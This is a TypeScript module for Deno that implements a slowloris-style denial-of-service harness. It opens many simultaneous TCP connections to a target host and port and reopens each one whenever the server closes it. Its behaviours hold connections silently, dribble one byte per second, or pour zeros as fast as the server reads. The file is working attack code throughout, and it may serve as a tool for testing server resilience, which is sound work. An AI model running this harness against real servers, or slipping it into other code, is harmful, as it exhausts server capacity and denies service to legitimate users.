/**
 * Connections that occupy a server: as soon as one is closed, another one is opened.
 * @module
 */

/** What an attacker does with a connection until the server closes it. */
export type Behaviour = (connection: Deno.TcpConn, signal: AbortSignal) => Promise<void>;

/** An attack. Disposing of it ends it. */
export class Attack implements AsyncDisposable {
  readonly #abort = new AbortController();
  readonly #open = new Set<Deno.TcpConn>();
  readonly #done: Promise<unknown>;
  /** Number of connections opened so far. */
  opened = 0;

  /** Starts the attack with `connections` simultaneous connections. */
  constructor(options: {
    readonly to: string;
    readonly connections: number;
    readonly behaviour: Behaviour;
  }) {
    this.#done = Promise.all(
      Array.from({ length: options.connections }, () => this.#attacker(options)),
    );
  }

  /** Closes every connection. */
  async [Symbol.asyncDispose](): Promise<void> {
    this.#abort.abort();
    for (const connection of this.#open) connection.close();
    await this.#done;
  }

  async #attacker(options: { readonly to: string; readonly behaviour: Behaviour }): Promise<void> {
    const { signal } = this.#abort;
    const [hostname = "", port] = options.to.split(":");
    while (!signal.aborted) {
      try {
        const connection = await Deno.connect({ hostname, port: Number(port) });
        this.opened++;
        this.#open.add(connection);
        try {
          if (!signal.aborted) await options.behaviour(connection, signal);
        } finally {
          if (this.#open.delete(connection) && !signal.aborted) connection.close();
          else if (signal.aborted) closeQuietly(connection);
        }
      } catch {
        // The server closed or refused the connection; the next one may succeed.
        await pause(20);
      }
    }
  }
}

function closeQuietly(connection: Deno.TcpConn): void {
  try {
    connection.close();
  } catch (error) {
    if (!(error instanceof Deno.errors.BadResource)) throw error;
  }
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

/** Sends nothing. */
export const silent: Behaviour = async (connection) => {
  while (await connection.read(new Uint8Array(1024)) !== null);
};

/** Sends `bytes`, one byte each second. */
export function dribbling(bytes: Uint8Array): Behaviour {
  return async (connection, signal) => {
    for (let at = 0; at < bytes.length && !signal.aborted; at++) {
      await connection.write(bytes.subarray(at, at + 1));
      await pause(1000);
    }
  };
}

/** Sends `head`, then zeros as fast as the server reads them. */
export function pouring(head: Uint8Array): Behaviour {
  const chunk = new Uint8Array(64 * 1024);
  return async (connection, signal) => {
    await connection.write(head);
    while (!signal.aborted) await connection.write(chunk);
  };
}
